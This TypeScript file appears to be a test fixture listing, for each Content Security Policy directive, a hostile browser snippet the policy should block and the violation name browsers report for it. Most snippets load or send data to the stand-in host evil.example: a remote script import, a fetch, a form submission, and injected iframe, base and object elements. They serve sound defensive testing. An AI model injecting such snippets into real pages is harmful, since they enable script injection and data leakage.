const evil = 'https://evil.example';

interface Attempt {
  /** By which name browsers report it. */
  reported: string;
  /** What a hostile script would do. */
  code: string;
}

/** The code of an address as those take it that may run what is behind it. */
const trusted = (address: string) =>
  `trustedTypes.createPolicy('wallet-worker', { createScriptURL: (url) => url }).createScriptURL('${address}')`;

const attempt = (reported: string, code: string): Attempt => ({ reported, code });

/** By directive of the policy, what it forbids. */
export const forbidden: Readonly<Record<string, Attempt>> = {
  'default-src': attempt(
    'frame-src',
    `document.body.append(Object.assign(document.createElement('iframe'), { src: '${evil}/' }))`,
  ),
  'script-src': attempt('script-src-elem', `import('${evil}/x.js').catch(() => {})`),
  'style-src': attempt(
    'style-src-elem',
    `document.head.append(Object.assign(document.createElement('style'), { textContent: 'p{}' }))`,
  ),
  'img-src': attempt('img-src', `Object.assign(new Image(), { src: '${evil}/x.png' })`),
  'font-src': attempt('font-src', `new FontFace('x', 'url(${evil}/x.woff2)').load().catch(() => {})`),
  'connect-src': attempt('connect-src', `fetch('${evil}/').catch(() => {})`),
  'media-src': attempt('media-src', `Object.assign(new Audio(), { src: '${evil}/x.mp3' }).load()`),
  'worker-src': attempt('worker-src', `new Worker(${trusted('data:text/javascript,')})`),
  'manifest-src': attempt(
    'manifest-src',
    `document.head.prepend(Object.assign(document.createElement('link'), { rel: 'manifest', href: '${evil}/' }))`,
  ),
  'form-action': attempt(
    'form-action',
    `(() => { const form = Object.assign(document.createElement('form'), { action: '${evil}/' }); document.body.append(form); form.submit(); })()`,
  ),
  'base-uri': attempt(
    'base-uri',
    `document.head.append(Object.assign(document.createElement('base'), { href: '${evil}/' }))`,
  ),
  'object-src': attempt(
    'object-src',
    `document.body.append(Object.assign(document.createElement('object'), { data: ${trusted(`${evil}/`)} }))`,
  ),
  'require-trusted-types-for': attempt(
    'require-trusted-types-for',
    `document.createElement('p').innerHTML = '<b>x</b>'`,
  ),
  'trusted-types': attempt('trusted-types', `trustedTypes.createPolicy('hostile', {})`),
};
